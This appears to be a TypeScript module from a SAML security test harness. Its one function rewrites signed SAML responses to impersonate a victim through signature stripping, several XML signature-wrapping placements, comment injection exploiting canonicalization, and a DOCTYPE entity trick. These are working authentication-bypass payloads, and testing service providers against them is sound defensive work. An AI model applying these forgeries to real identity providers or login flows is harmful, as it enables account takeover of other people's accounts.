import type { SamlState } from "./identity-providers.ts";

const assertionPattern = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;
const signaturePattern = /<ds:Signature[\s\S]*?<\/ds:Signature>/;

/** What an attacker makes of a signed response on its way through their own browser. */
export function tamper(xml: string, { attack, victim = "" }: SamlState): string {
  const signed = assertionPattern.exec(xml)?.[0] ?? "";
  const signature = signaturePattern.exec(signed)?.[0] ?? "";
  const bare = signed.replace(signaturePattern, "");
  const evil = bare
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`)
    .replace(/(<saml:AttributeValue>)[^<]*@[^<]*/, `$1${victim}`);
  const renamed = evil.replace(/ ID="[^"]*"/, ' ID="_evil"');
  switch (attack) {
    case "unsigned":
      return xml.replace(signed, evil);
    case "changed":
      return xml.replace(signed, signed.replace(/(<saml:AttributeValue>)[^<]*@[^<]*/, `$1${victim}`));
    case "beside":
      return xml.replace(signed, `${renamed}${signed}`);
    case "behind":
      return xml.replace(signed, `${signed}${renamed}`);
    // The forged one carries the signature; the one that was signed hides inside of it, or beside the road.
    case "inside":
      return xml.replace(
        signed,
        renamed.replace(
          "</saml:Issuer>",
          `</saml:Issuer>${signature.replace("</ds:Signature>", `<ds:Object>${bare}</ds:Object></ds:Signature>`)}`,
        ),
      );
    case "extensions":
      return xml.replace(
        signed,
        `<samlp:Extensions>${bare}</samlp:Extensions>${evil.replace("</saml:Issuer>", `</saml:Issuer>${signature}`)}`,
      );
    // Canonical XML drops comments, so the signature still fits; who reads only the text before one reads the victim's address.
    case "comment":
      return xml.replaceAll(`${victim}.evil.example`, `${victim}<!-- -->.evil.example`);
    case "doctype":
      return `<!DOCTYPE x [<!ENTITY e "${victim}">]>${xml}`;
    default:
      return xml;
  }
}
